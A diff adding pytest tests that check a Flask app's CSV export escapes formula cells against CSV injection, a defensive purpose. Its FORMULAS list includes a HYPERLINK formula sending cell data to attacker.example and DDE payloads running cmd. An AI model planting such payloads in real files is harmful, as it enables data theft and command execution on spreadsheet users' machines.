@@ -321,3 +321,61 @@ def test_an_import_larger_than_any_other_form_is_accepted_but_needs_its_csrf_tok
     response = import_file(signed_in_client, data)
     assert response.status_code == 200
     assert "3 records and 2 documents added" in response.get_data(as_text=True)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def test_the_csv_escapes_formula_cells_and_the_import_keeps_the_text(
+    signed_in_client: FlaskClient,
+    other_client: FlaskClient,
+    db: Session,
+    user,
+    policy: Policy,
+) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run as a formula starts with a
+    single quote in records.csv; records.json, which the import reads, is unchanged."""
+    for formula in FORMULAS:
+        record = _saved(
+            db, user, "structured", structured_answers(title=formula, action="draft"), policy
+        )
+    _with_document(db, record, "=1+2.pdf", sample_files.pdf(), "", policy)
+    data = download_bytes(signed_in_client)
+    exported = zipfile.ZipFile(io.BytesIO(data))
+    rows = list(csv.DictReader(io.StringIO(exported.read("records.csv").decode("utf-8-sig"))))
+    assert sorted(row["title"] for row in rows) == sorted("'" + f for f in FORMULAS)
+    assert "'=1+2.pdf" in [row["documents"] for row in rows]
+    for row in rows:
+        for value in row.values():
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
+
+    response = import_file(other_client, data)
+    assert response.status_code == 200, response.get_data(as_text=True)
+    assert comparable(download(other_client)) == comparable(exported)
+    titles = {r["answers"]["title"] for r in json.loads(exported.read("records.json"))["records"]}
+    assert titles == set(FORMULAS)
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("A plain title", "A plain title"),
+        ("", ""),
+        ("1-2", "1-2"),
+    ],
+)
+def test_a_csv_cell_that_could_be_a_formula_starts_with_a_quote(value: str, written: str) -> None:
+    from app.keep.archive import csv_cell
+
+    assert csv_cell(value) == written
